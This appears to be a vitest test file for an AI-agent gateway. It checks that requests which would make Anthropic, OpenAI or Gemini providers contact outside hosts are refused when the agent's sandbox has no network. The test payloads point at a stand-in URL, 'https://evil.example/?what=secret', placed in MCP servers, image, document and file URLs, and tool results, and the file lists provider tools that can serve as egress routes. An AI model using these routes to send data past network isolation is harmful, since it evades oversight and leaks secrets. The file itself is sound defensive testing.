/** An agent without a network does not reach other hosts by way of its provider either. */

import { beforeAll, describe, expect, it } from 'vitest';
import { canRunDocker } from '../../support/docker/docker.ts';
import { sharedEngineWithImage } from '../../support/docker/shared-docker.ts';
import { scratchFolder } from '../../support/kernels/session.ts';
import { shareCache } from '../../support/run/shared-cache.ts';
import { agentServer, hostileRunner, namedPrograms, prompt } from '../../support/servers/agent-server.ts';
import { at, Gateway, message, provide } from '../../support/servers/gateway.ts';
import type { TestServer } from '../../support/servers/server.ts';

const MESSAGES = '/anthropic/v1/messages';
const RESPONSES = '/openai/v1/responses';
const CHAT = '/openai/v1/chat/completions';
const GEMINI = '/gemini/v1beta/models/gemini-2.5-pro:generateContent';
const answers: Readonly<Record<string, unknown>> = {
  '/v1/messages': JSON.parse(message('hi')),
  '/v1/messages/count_tokens': { input_tokens: 1 },
  '/v1/responses': { object: 'response' },
  '/v1/chat/completions': { object: 'chat.completion' },
  '/v1beta/models/gemini-2.5-pro:generateContent': { candidates: [] },
};

let address: string;
let asked = 0;
beforeAll(async () => {
  ({ url: address } = await provide((request, response) => {
    asked += 1;
    request.resume();
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(answers[request.url ?? '']));
  }));
});

const claude = (more: object) => ({ model: 'm', max_tokens: 9, messages: [{ role: 'user', content: 'a' }], ...more });
const block = (...content: object[]) => claude({ messages: [{ role: 'user', content }] });
const chat = (content: unknown, more = {}) => ({ model: 'gpt-5', messages: [{ role: 'user', content }], ...more });
const gemini = (more: object) => ({ contents: [{ role: 'user', parts: [{ text: 'a' }] }], ...more });
const EVIL = 'https://evil.example/?what=secret';

const reaching: readonly [string, string, object][] = [
  ['mcp_servers[0]', MESSAGES, claude({ mcp_servers: [{ type: 'url', url: EVIL, name: 'a' }] })],
  ['tools[0].type', MESSAGES, claude({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] })],
  ['tools[0].type', MESSAGES, claude({ tools: [{ name: 'web_fetch', type: 'web_fetch_20260318' }] })],
  ['tools[0].type', MESSAGES, claude({ tools: [{ type: 'code_execution_20260521', name: 'code_execution' }] })],
  ['tools[0].type', MESSAGES, claude({ tools: [{ type: 'mcp_toolset', mcp_server_name: 'a' }] })],
  ['messages[0].content[0].source.url', MESSAGES, block({ type: 'image', source: { type: 'url', url: EVIL } })],
  ['messages[0].content[0].source.url', MESSAGES, block({ type: 'document', source: { type: 'url', url: EVIL } })],
  [
    'messages[0].content[0].content[0].source.url',
    MESSAGES,
    block({ type: 'tool_result', tool_use_id: 'a', content: [{ type: 'image', source: { type: 'url', url: EVIL } }] }),
  ],
  [
    'tools[0].type',
    `${MESSAGES}/count_tokens`,
    { ...claude({ tools: [{ type: 'web_search_20250305', name: 'a' }] }), max_tokens: undefined },
  ],
  ...[
    'web_search',
    'web_search_preview_2025_03_11',
    'file_search',
    'code_interpreter',
    'computer_use_preview',
    'mcp',
  ].map((type): [string, string, object] => [
    'tools[0].type',
    RESPONSES,
    { model: 'gpt-5', input: 'a', tools: [{ type }] },
  ]),
  [
    'tools[0].environment.type',
    RESPONSES,
    { model: 'gpt-5', input: 'a', tools: [{ type: 'shell', environment: { type: 'container_auto' } }] },
  ],
  ['prompt', RESPONSES, { model: 'gpt-5', prompt: { id: 'pmpt_1' } }],
  [
    'input[0].content[0].image_url',
    RESPONSES,
    { model: 'gpt-5', input: [{ role: 'user', content: [{ type: 'input_image', image_url: EVIL }] }] },
  ],
  [
    'input[0].content[0].file_url',
    RESPONSES,
    { model: 'gpt-5', input: [{ role: 'user', content: [{ type: 'input_file', file_url: EVIL }] }] },
  ],
  [
    'input[0].output[0].image_url',
    RESPONSES,
    {
      model: 'gpt-5',
      input: [{ type: 'function_call_output', call_id: 'a', output: [{ type: 'input_image', image_url: EVIL }] }],
    },
  ],
  ['messages[0].content[0].image_url.url', CHAT, chat([{ type: 'image_url', image_url: { url: EVIL } }])],
  ['messages[0].content[0].image_url', CHAT, chat([{ type: 'image_url', image_url: EVIL }])],
  ['web_search_options', CHAT, chat('a', { web_search_options: {} })],
  ['model', CHAT, chat('a', { model: 'gpt-4o-search-preview' })],
  ...[
    'googleSearch',
    'google_search',
    'urlContext',
    'url_context',
    'codeExecution',
    'googleSearchRetrieval',
    'fileSearch',
  ].map((name): [string, string, object] => [`tools[0].${name}`, GEMINI, gemini({ tools: [{ [name]: {} }] })]),
  ['contents[0].parts[0].fileData.fileUri', GEMINI, { contents: [{ parts: [{ fileData: { fileUri: EVIL } }] }] }],
  ['contents[0].parts[0].file_data.file_uri', GEMINI, { contents: [{ parts: [{ file_data: { file_uri: EVIL } }] }] }],
  ['cachedContent', GEMINI, gemini({ cachedContent: 'cachedContents/1' })],
];

describe('features that make the provider reach other hosts', () => {
  it.each(reaching)('%s of %s is refused without a network, and passes with one', async (place, path, body) => {
    for (const [open, allowed] of [
      [{ settings: { providers: at(address) }, expected: { hasNetwork: false } }, false],
      [{ settings: { providers: at(address) } }, false],
      [{ settings: { providers: at(address) }, expected: { hasNetwork: true } }, true],
      [{ settings: { providers: at(address), providerTools: 'always' as const } }, true],
    ] as const) {
      const gateway = await Gateway.open(open);
      const headers = { 'x-api-key': await (await gateway.person('ada', 'sk-test-0123456789')).token() };
      const before = asked;
      const { status, text } = await gateway.ask(path, { headers, body });
      expect([status, asked - before], text).toEqual(allowed ? [200, 1] : [403, 0]);
      if (!allowed) expect(JSON.parse(text).error.message).toContain(`"${place}"`);
      if (!allowed) expect(JSON.parse(text).error.message).toContain('network: "host"');
      await gateway.close();
    }
  });

  it('do not include content of the request itself, or tools that the agent runs', async () => {
    const gateway = await Gateway.open({ settings: { providers: at(address) } });
    const headers = { 'x-api-key': await (await gateway.person('ada', 'sk-test-0123456789')).token() };
    const data = 'data:image/png;base64,AAAA';
    for (const [path, body] of [
      [MESSAGES, block({ type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'AAAA' } })],
      [MESSAGES, claude({ mcp_servers: [], tools: [{ type: 'bash_20250124', name: 'bash' }] })],
      [MESSAGES, block({ type: 'text', text: EVIL })],
      [RESPONSES, { model: 'gpt-5', input: [{ role: 'user', content: [{ type: 'input_image', image_url: data }] }] }],
      [
        RESPONSES,
        { model: 'gpt-5', input: 'a', tools: [{ type: 'local_shell' }, { type: 'custom', name: 'apply_patch' }] },
      ],
      [CHAT, chat([{ type: 'image_url', image_url: { url: data } }])],
      [GEMINI, { contents: [{ parts: [{ inlineData: { mimeType: 'image/png', data: 'AAAA' } }] }] }],
      [GEMINI, gemini({ tools: [{ functionDeclarations: [{ name: 'googleSearch' }] }] })],
    ] as const) {
      const { status, text } = await gateway.ask(path, { headers, body });
      expect(status, text).toBe(200);
    }
  });
});

describe('an agent reaches other hosts through its provider only if its session has the network of the machine', () => {
  const ask = [
    claude({ mcp_servers: [{ type: 'url', url: EVIL, name: 'a' }] }),
    block({ type: 'image', source: { type: 'url', url: EVIL } }),
    claude({}),
  ].map((body) => ({ path: MESSAGES, body }));

  /** How each call was answered in such a session, and how many of them the provider has seen. */
  async function outcome(server: TestServer, settings: object): Promise<[statuses?: string, seen?: number]> {
    const before = asked;
    const { id } = await server.session({ agentKey: JSON.stringify(settings), ...settings });
    const { json } = await prompt(server, id, `ask ${JSON.stringify(ask)}`);
    return [json.text, asked - before];
  }
  const start = async (more: object = {}) =>
    agentServer({ modelUrl: address, runner: await hostileRunner(), programs: await namedPrograms(), ...more });
  const hosts = { network: { allow: ['evil.example'] } };
  const machine = { network: 'host' };
  const [refused, passed] = [
    ['403 403 200', 1],
    ['200 200 200', 3],
  ];

  it('in a sandbox or without one', async () => {
    const server = await start();
    expect.soft(await outcome(server, {})).toEqual(refused);
    expect.soft(await outcome(server, { sandbox: { network: 'none' } })).toEqual(refused);
    expect.soft(await outcome(server, { sandbox: hosts })).toEqual(refused);
    expect.soft(await outcome(server, { sandbox: machine })).toEqual(passed);
    expect.soft(await outcome(server, { sandbox: 'off' })).toEqual(passed);
  });

  it.skipIf(!canRunDocker)('in a container', { timeout: 300_000 }, async () => {
    const dataDir = shareCache(await scratchFolder());
    const server = await start({ dataDir, session: { engine: await sharedEngineWithImage() } });
    expect.soft(await outcome(server, { executor: 'container' })).toEqual(refused);
    expect.soft(await outcome(server, { executor: 'container', sandbox: hosts })).toEqual(refused);
    expect.soft(await outcome(server, { executor: 'container', sandbox: machine })).toEqual(passed);
  });
});
